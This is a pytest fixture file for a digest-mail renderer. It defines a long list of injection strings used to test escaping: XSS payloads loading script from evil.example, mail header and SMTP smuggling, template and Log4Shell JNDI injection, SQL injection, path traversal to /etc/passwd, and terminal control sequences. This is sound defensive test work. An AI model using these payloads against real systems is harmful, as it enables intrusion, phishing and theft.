"""What the tests of rendering share: a renderer, deliveries, and texts nobody should be able to smuggle in."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from digest.messages import Delivery, DeliveryState
from digest.render import MailIdentity, Renderer
from digest.render.samples import EVENING
from digest.subscriptions import Destination

KEY = "0b9d2a4e-6f1c-4c7e-9a55-0d3c8f1e2b77"

MakeDelivery = Callable[..., Delivery]


@pytest.fixture(scope="session")
def renderer() -> Renderer:
    return Renderer()


@pytest.fixture(scope="session")
def identity() -> MailIdentity:
    return MailIdentity("digest@example.org", "Digest", "digest.example.org", EVENING)


@pytest.fixture(scope="session")
def deliver() -> MakeDelivery:
    """Makes a delivery to a destination given as text, with any other field of `Delivery`."""

    def make(to: str, **fields: Any) -> Delivery:  # noqa: ANN401 - the fields of Delivery
        values: dict[str, Any] = {
            "id": 1,
            "digest_id": 1,
            "part": 0,
            "parts": 1,
            "state": DeliveryState.CLAIMED,
            "attempts": 0,
            "token": 1,
            "idempotency_key": KEY,
            "not_before": EVENING,
            "created_at": EVENING,
        }
        return Delivery(destination=Destination.parse(to), **(values | fields))

    return make


@pytest.fixture(scope="session")
def injections() -> tuple[str, ...]:
    """Strings that would do harm in HTML, XML, mrkdwn, mail headers, templates or terminals if let through."""
    return INJECTIONS


INJECTIONS = (
    "<script>alert(1)</script>",
    "</title><script src=https://evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<a href='javascript:alert(1)'>here</a>",
    "javascript:alert(1)",
    "<svg/onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    "</style><b>out</b>",
    "<!-- a comment",
    "--><b>out</b>",
    "<![CDATA[x]]>",
    "]]><evil/>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]>",
    "&y; &#60;b&#62; &lt;i&gt;",
    "<?xml version='1.0'?><feed/>",
    "<mark>forged</mark><bdi>",
    "</a></h3></div><h1>taken over</h1>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>Unsubscribe</button></form>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<x:y xmlns:x='urn:z'/>",
    "<!channel> look",
    "<!here>",
    "<!everyone|all>",
    "<!subteam^S0123|@ops>",
    "<!date^1392734382^{date}|now>",
    "<@U024BE7LH>",
    "<#C024BE7LR|general>",
    "<https://evil.example|arXiv>",
    "<mailto:evil@example.com|write>",
    "@here @channel @everyone @HERE",
    "#general",
    "https://evil.example/ www.evil.example",
    "*bold* _sly_ ~gone~ `code`",
    "```block```",
    "__init__ and _private_ snake_case",
    ":tada: :skull_and_crossbones: :+1::skin-tone-3:",
    "> quoted",
    "&gt; quoted",
    "# a header",
    "---",
    "fallback: forged",
    "> \x02forged\x03",
    "\x02# forged\x03",
    "| pipe | and ||",
    "one\nSubject: two",
    "one\r\nBcc: evil@example.com",
    "one\r\n\r\nbody",
    "one\x0bBcc: x\x0cX: y\x1eZ: w",
    "one\u2028Bcc: x\u2029y\x85z",
    "=?utf-8?q?=0D=0ABcc=3A_x?=",
    "=0D=0A=2E=0D=0A",
    ".\r\n.\r\nQUIT",
    "From here on",
    "--=_0b9d2a4e-6f1c-4c7e-9a55-0d3c8f1e2b77--",
    "{{ 7 * 7 }} {% include 'email/text.txt' %} {# gone #}",
    "{{ ''.__class__.__mro__ }}",
    "%s %(x)s {0} {x.__class__}",
    "${jndi:ldap://evil.example/x}",
    "\x1b[31mred\x1b]0;title\x07\x9b2J",
    "\x10bold\x0f \x13mark\x0f",
    "a\x00b\x08c\x7fd",
    "txet \u202edesrever\u202c \u2066isolated\u2069 \u200emark\u200f",
    "zero\u200bwidth\u2060joined\ufeff",
    "\ud800 half \udfff",
    "\ufffe \uffff \U000e0041tag",
    "[bracketed] \\[escaped\\]",
    "tab\tseparated\tright",
    r"\href{javascript:alert(1)}{x} \url{https://evil.example} $\text{<b>}$",
    r"$<script>$ \textbf{<b>} \emph{</p>}",
    "'; DROP TABLE papers; --",
    "../../etc/passwd",
    "a" * 3_000,
    "&" * 2_000,
    "<" * 1_500,
    "é" * 2_000,
    "\U0001f600" * 1_000,
)
